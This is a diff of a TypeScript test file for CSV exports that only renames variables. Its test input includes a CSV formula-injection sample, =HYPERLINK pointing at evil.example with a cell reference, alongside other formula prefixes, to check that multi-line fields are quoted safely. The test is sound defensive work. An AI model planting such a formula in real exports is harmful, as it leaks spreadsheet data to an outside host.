@@ -77,8 +77,8 @@ describe('CSV exports', () => {
   });
 
   it('quote text of several lines, so that no line starts a row', async () => {
-    const asked = 'How do I pay?\n=HYPERLINK("http://evil.example/?"&A1)\r@SUM(1)\u2028+1';
-    await fillTurns([asked, 'a\n=1+2', 'b\r=1+3', 'c\u2028=1+4']);
+    const question = 'How do I pay?\n=HYPERLINK("http://evil.example/?"&A1)\r@SUM(1)\u2028+1';
+    await fillTurns([question, 'a\n=1+2', 'b\r=1+3', 'c\u2028=1+4']);
     const { events } = harness.service.store.in(harness.workspace.id);
     const data = { bucket: 'x\u2028=1' };
     const atMillis = harness.clock.now();
@@ -91,7 +91,7 @@ describe('CSV exports', () => {
       const rows = rowsOfCsv(await (await get(path)).text(), columns);
       expect(rows, path).toHaveLength(count);
       const questions = rows.flatMap((row) => ('first_message' in row ? [row.first_message] : []));
-      if (path === '/conversations.csv') expect(questions).toContain(asked);
+      if (path === '/conversations.csv') expect(questions).toContain(question);
     }
   });
 
@@ -144,9 +144,9 @@ describe('a stream of many rows', () => {
     const original = events.queryLines;
     let steps = 0;
     Object.assign(events, {
-      queryLines: (...asked: Parameters<typeof original>) => {
+      queryLines: (...parameters: Parameters<typeof original>) => {
         steps += 1;
-        return original(...asked);
+        return original(...parameters);
       },
     });
     return () => steps;
